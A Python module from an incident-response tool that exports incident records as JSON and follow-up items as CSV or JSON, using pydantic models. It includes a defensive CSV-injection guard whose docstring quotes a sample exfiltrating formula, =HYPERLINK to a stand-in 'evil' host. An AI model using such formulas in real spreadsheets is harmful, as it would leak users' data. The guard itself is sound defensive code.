"""The incident record for other tools: JSON (``warroom.incident/1``) and Markdown.

The JSON shape is a contract (DESIGN.md), so it is written through pydantic
models: a field cannot go missing or change type without a test noticing.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime
from typing import Final, Literal, cast

from pydantic import BaseModel

from warroom.clock import system_clock
from warroom.db.store import Store
from warroom.domain.models import Entry, Incident
from warroom.playbook import Playbook, default_playbook

SCHEMA: Final = "warroom.incident/1"


class RolesOut(BaseModel):
    incident_commander: str | None
    communications_lead: str | None
    scribe: str | None
    response_engineers: list[str]


class ChecklistOut(BaseModel):
    label: str
    done: bool
    done_at: str | None
    done_by: str | None


class EntryOut(BaseModel):
    id: int
    at: str
    occurred_at: str | None
    author: str
    kind: str
    text: str
    struck: bool
    starred: bool


class UpdateOut(BaseModel):
    at: str
    audience: str
    text: str
    delivery: str


class FollowUpOut(BaseModel):
    text: str
    owner: str
    due: str
    done: bool
    done_at: str | None
    #: Once pushed to the tracker (``followups --push``): the issue's URL
    #: (GitHub) or key (Jira), and its web page. Left out until then.
    ticket: str | None = None
    ticket_url: str | None = None


class MilestonesOut(BaseModel):
    impact_started_at: str | None
    detected_at: str | None
    mitigated_at: str | None
    resolved_at: str | None
    closed_at: str | None


class ReviewOut(BaseModel):
    root_cause: str
    contributing_factors: str
    resolution_steps: str
    #: The meeting date (``YYYY-MM-DD``): as set on the review screen, else the
    #: proposal (resolution + the playbook's business days; today + them while open).
    review_at: str
    review_at_proposed: bool
    invitees: list[str]


class FiguresOut(BaseModel):
    time_to_mitigate_seconds: int | None
    time_to_resolve_seconds: int | None
    updates_sent: int
    updates_due: int
    updates_late: int
    late_by_seconds_total: int
    late_by_seconds_max: int


class IncidentExport(BaseModel):
    schema_: Literal["warroom.incident/1"] = SCHEMA
    id: int
    ref: str
    title: str
    severity: str
    status: Literal["open", "resolved", "closed"]
    stage: str
    impact: str
    declared_at: str
    resolved_at: str | None
    frozen: bool
    bridge: str | None
    roles: RolesOut
    checklist: list[ChecklistOut]
    timeline: list[EntryOut]
    updates: list[UpdateOut]
    next_update_due: str | None
    followups: list[FollowUpOut]
    milestones: MilestonesOut
    review: ReviewOut
    figures: FiguresOut

    def to_json(self) -> str:
        data = self.model_dump()
        data = {"schema": data.pop("schema_"), **data}
        for followup in data["followups"]:
            for key in ("ticket", "ticket_url"):
                if followup[key] is None:
                    del followup[key]
        return json.dumps(data, ensure_ascii=False, indent=2) + "\n"


def _timeline(entries: Iterator[Entry]) -> list[EntryOut]:
    # The entry's number within its incident is its id in the record: it is what
    # the console shows and what /star N refers to.
    return [
        EntryOut.model_construct(
            id=e.seq,
            at=e.at,
            occurred_at=e.occurred_at,
            author=e.author,
            kind=e.kind,
            text=e.text,
            struck=e.struck,
            starred=e.starred,
        )
        for e in entries
    ]


def build_export(
    store: Store,
    incident: Incident,
    playbook: Playbook | None = None,
    *,
    now: datetime | None = None,
) -> IncidentExport:
    """The record as the ``warroom.incident/1`` model (DESIGN.md's keys, and more).

    ``playbook`` gives the cadences the figures replay and the review invitees
    (default: the built-in one); ``now`` ends the figures of an open incident.
    """
    from warroom.exports.review import figures_for, review_date

    if playbook is None:
        playbook = default_playbook()
    if now is None:
        now = system_clock().now()
    roles = incident.roles
    milestones = incident.milestones
    review = store.review(incident.id)
    figures = figures_for(store, incident, playbook, now)
    return IncidentExport(
        id=incident.id,
        ref=incident.ref,
        title=incident.title,
        severity=f"SEV-{incident.severity}",
        status=cast(Literal["open", "resolved", "closed"], incident.status),
        stage=incident.stage,
        impact=incident.impact,
        declared_at=incident.declared_at,
        resolved_at=incident.resolved_at,
        frozen=incident.frozen,
        bridge=incident.bridge,
        roles=RolesOut(
            incident_commander=roles.incident_commander,
            communications_lead=roles.communications_lead,
            scribe=roles.scribe,
            response_engineers=list(roles.response_engineers),
        ),
        checklist=[
            ChecklistOut(label=c.label, done=c.done, done_at=c.done_at, done_by=c.done_by)
            for c in incident.checklist
        ],
        timeline=_timeline(store.iter_entries(incident.id)),
        updates=[
            UpdateOut(at=u.at, audience=u.audience, text=u.text, delivery=u.delivery)
            for u in store.updates(incident.id)
        ],
        next_update_due=incident.next_update_due,
        followups=[
            FollowUpOut(
                text=f.text,
                owner=f.owner,
                due=f.due,
                done=f.done,
                done_at=f.done_at,
                ticket=f.ticket,
                ticket_url=f.ticket_url,
            )
            for f in store.followups(incident.id)
        ],
        milestones=MilestonesOut(
            impact_started_at=milestones.impact_started_at,
            detected_at=milestones.detected_at,
            mitigated_at=milestones.mitigated_at,
            resolved_at=incident.resolved_at,
            closed_at=milestones.closed_at,
        ),
        review=ReviewOut(
            root_cause=review.root_cause,
            contributing_factors=review.contributing_factors,
            resolution_steps=review.resolution_steps,
            review_at=review_date(review, incident, playbook, now).isoformat(),
            review_at_proposed=review.review_at is None,
            invitees=list(playbook.review_invitees),
        ),
        figures=FiguresOut(
            time_to_mitigate_seconds=figures.time_to_mitigate_seconds,
            time_to_resolve_seconds=figures.time_to_resolve_seconds,
            updates_sent=figures.updates_sent,
            updates_due=figures.updates_due,
            updates_late=figures.updates_late,
            late_by_seconds_total=figures.late_by_seconds_total,
            late_by_seconds_max=figures.late_by_seconds_max,
        ),
    )


# -- follow-ups, for backlog trackers ------------------------------------------------

FOLLOWUP_FIELDS = ("incident", "ref", "text", "owner", "due", "done", "done_at", "ticket")


def followup_rows(store: Store, incident: Incident) -> list[dict[str, object]]:
    """One row per follow-up: ``ref`` (``INC-7-FU-2``) is stable, for de-duplicating;
    ``ticket`` is the tracker's issue (URL or key) once pushed, else empty."""
    return [
        {
            "incident": incident.ref,
            "ref": f"{incident.ref}-FU-{number}",
            "text": f.text,
            "owner": f.owner,
            "due": f.due,
            "done": f.done,
            "done_at": f.done_at,
            "ticket": f.ticket,
        }
        for number, f in enumerate(store.followups(incident.id), start=1)
    ]


#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection"):
#: ``=``, ``+``, ``-``, ``@``, and tab and carriage return before them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: object) -> str:
    """A follow-up field as a CSV cell: booleans as words, text made inert."""
    if isinstance(value, bool):
        return "true" if value else "false"
    return inert_cell(str(value or ""))


def inert_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it and never runs it.

    A follow-up such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(…)``
    would be a live formula in Excel, LibreOffice or Google Sheets. As OWASP
    recommends, a cell that starts like a formula gets a leading ``'`` (which
    spreadsheets read as "this is text"); nothing else in it changes.
    """
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def followups_csv(store: Store, incident: Incident) -> str:
    """RFC 4180 CSV (CRLF rows, quoted where needed), text as typed but never a
    formula (:func:`inert_cell`). The JSON export keeps every value exact."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow(FOLLOWUP_FIELDS)
    for row in followup_rows(store, incident):
        writer.writerow(
            [
                "true"
                if value is True
                else "false"
                if value is False
                else inert_cell(str(value or ""))
                for value in (row[key] for key in FOLLOWUP_FIELDS)
            ]
        )
    return out.getvalue()


def followups_json(store: Store, incident: Incident) -> str:
    """The same rows as JSON: a list of objects with the CSV's columns as keys
    (``ticket`` only once pushed, as in the incident record)."""
    rows = followup_rows(store, incident)
    for row in rows:
        if row["ticket"] is None:
            del row["ticket"]
    return json.dumps(rows, ensure_ascii=False, indent=2) + "\n"
